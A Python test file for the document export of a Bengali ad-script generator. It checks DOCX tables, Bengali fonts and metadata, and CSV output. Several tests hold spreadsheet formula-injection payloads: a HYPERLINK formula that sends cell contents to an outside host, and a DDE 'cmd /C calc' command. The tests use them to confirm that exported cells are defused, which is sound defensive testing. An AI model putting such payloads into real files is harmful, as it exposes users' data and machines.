"""The files somebody works on: opened again, with every word of the script in them."""

import csv
import io
import zipfile
from datetime import UTC, datetime

import pytest
from docx import Document
from docx.oxml.ns import qn
from hypothesis import given, settings
from hypothesis import strategies as st

from lekhai_helpers.core.recipe import data_file
from lekhai_helpers.ship.documents import FONT, read_rows, to_csv, to_docx
from lekhai_helpers.ship.store import StoredScript

TABLE = "| Visual | Audio |\n|---|---|\n| বারান্দা<br>ভোর | ভিও: নতুন দিন |\n| সুপার: ক \\| খ | SFX: বৃষ্টি |\n| লোগো | জিঙ্গেল |"
REQUEST = {"brand": "ঝিলমাটি", "product": "দেয়ালের রং", "industry": "রং ও গৃহসজ্জা (Paint & Home)"}
REQUEST |= {"tone": "উষ্ণ পারিবারিক (Warm family)", "duration_seconds": 30, "message": "দেয়ালও মনে রাখে"}


def stored(markdown: str = TABLE, problems: tuple[str, ...] = (), **request) -> StoredScript:
    moment = datetime(2026, 1, 2, 3, 4, 5, tzinfo=UTC)
    asked = REQUEST | request
    return StoredScript(asked, markdown, not problems, list(problems), "lekhai@1", 1.5, "an-id", moment)


def opened(script: StoredScript):
    return Document(io.BytesIO(to_docx(script)))


def text_of(document) -> str:
    cells = [cell.text for table in document.tables for row in table.rows for cell in row.cells]
    return "\n".join([*(paragraph.text for paragraph in document.paragraphs), *cells])


def csv_rows(script: StoredScript) -> list[list[str]]:
    return list(csv.reader(io.StringIO(to_csv(script).decode("utf-8-sig"), newline="")))


def test_the_document_has_a_real_table_of_two_columns():
    table = opened(stored()).tables[0]
    assert [[cell.text for cell in row.cells] for row in table.rows] == [
        ["Visual", "Audio"],
        ["বারান্দা\nভোর", "ভিও: নতুন দিন"],
        ["সুপার: ক | খ", "SFX: বৃষ্টি"],
        ["লোগো", "জিঙ্গেল"],
    ]
    assert len(table.columns) == 2
    assert table.rows[0]._tr.trPr.find(qn("w:tblHeader")) is not None
    assert all(row._tr.trPr.find(qn("w:cantSplit")) is not None for row in table.rows[1:])


def test_the_bengali_font_is_named_for_complex_script_in_every_style():
    """Word draws Bengali with w:cs and the size of w:szCs; a theme's font would win over a named one."""
    document = opened(stored())
    fonts = list(document.styles.element.iter(qn("w:rFonts")))
    assert len(fonts) > 3
    for found in fonts:
        assert {found.get(qn(f"w:{script}")) for script in ("cs", "ascii", "hAnsi")} == {FONT}
        assert not [name for name in found.attrib if "heme" in name]
    defaults = next(document.styles.element.iter(qn("w:rPrDefault")))
    assert next(defaults.iter(qn("w:szCs"))).get(qn("w:val")) == "22"
    assert next(defaults.iter(qn("w:lang"))).get(qn("w:bidi")) == "bn-BD"
    bold = next(document.tables[0]._tbl.iter(qn("w:rPr")))
    assert bold.find(qn("w:b")) is not None and bold.find(qn("w:bCs")) is not None


def test_the_document_says_what_was_asked_for_and_by_whom_it_was_written():
    document = opened(stored())
    text = text_of(document)
    assert document.paragraphs[0].text == document.core_properties.title == "ঝিলমাটি · দেয়ালের রং"
    for words in ("Paint & Home", "Warm family", "৩০ সেকেন্ড (30 s)", "দেয়ালও মনে রাখে", "lekhai@1", "2026-01-02 03:04"):
        assert words in text
    assert document.core_properties.author == "LekhAI"


def test_the_verdict_stands_below_the_table_in_words():
    assert "keeps every rule" in text_of(opened(stored()))
    broken = text_of(opened(stored(problems=("5 rows; a film of 30 s has 6 to 9",))))
    assert "breaks these rules" in broken and "5 rows; a film of 30 s has 6 to 9" in broken


MESSY = "Here you are:\n| Visual | Audio |\n|---|---|\n| ক | খ |\n| এক | দুই | তিন |\n| শুধু |  |\nশেষ কথা"


def test_lines_that_are_no_row_are_kept_in_both_files():
    rows, left = read_rows(MESSY)
    assert rows == [("ক", "খ")]
    assert left == ["Here you are:", "| এক | দুই | তিন |", "| শুধু |  |", "শেষ কথা"]
    text = text_of(opened(stored(MESSY, ("row 2 has 3 cell(s) instead of 2",))))
    assert all(line in text for line in left) and "Outside the table" in text
    assert csv_rows(stored(MESSY))[2:] == [[line, ""] for line in left]


@pytest.mark.parametrize("markdown", ["", "কোনো ছক নেই", "| | | |", "|---|---|"])
def test_a_script_without_a_table_still_makes_both_files(markdown):
    script = stored(markdown, ("there is no table",))
    assert "there is no table" in text_of(opened(script))
    assert csv_rows(script)[0] == ["Visual", "Audio"]


def test_the_table_for_a_spreadsheet_opens_as_bengali():
    content = to_csv(stored())
    assert content.startswith(b"\xef\xbb\xbf")
    assert csv_rows(stored())[1] == ["বারান্দা\nভোর", "ভিও: নতুন দিন"]


@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "＝", "＠"])
def test_a_cell_never_becomes_a_formula(sign):
    """`=HYPERLINK(...)` in a cell would send what is in the table to somebody else on opening."""
    markdown = f'| Visual | Audio |\n|---|---|\n| {sign}HYPERLINK("http://x/"&A1) | ভিও: {sign}1 |'
    visual, audio = csv_rows(stored(markdown))[1]
    assert visual.startswith(f"'{sign}") and audio == f"ভিও: {sign}1"


def test_a_formula_after_a_line_break_or_outside_the_table_is_harmless_too():
    rows = csv_rows(stored("=cmd|' /C calc'!A0\n| Visual | Audio |\n|---|---|\n| <br>=1+1 | খ |"))
    assert rows[1] == ["'\n=1+1", "খ"] and rows[2][0].startswith("'=")


@settings(deadline=None, derandomize=True, max_examples=30)
@given(st.text(), st.text())
def test_any_text_makes_files_that_open_again(markdown, brand):
    """Control characters break the XML of a document unless they are taken out."""
    script = stored(markdown, ("x",), brand=brand, message=markdown)
    assert opened(script).tables
    assert csv_rows(script)[0] == ["Visual", "Audio"]


def test_the_real_scripts_of_the_training_data_go_through_whole():
    with data_file("Ad Script Dataset - Scripts.csv").open(encoding="utf-8-sig", newline="") as file:
        scripts = [row["script"] for row in csv.DictReader(file)][:8]
    for script in scripts:
        rows, left = read_rows(script)
        assert left == [] and len(opened(stored(script)).tables[0].rows) == len(rows) + 1 > 3


def test_the_document_is_a_sound_package():
    with zipfile.ZipFile(io.BytesIO(to_docx(stored()))) as package:
        assert package.testzip() is None and "word/document.xml" in package.namelist()
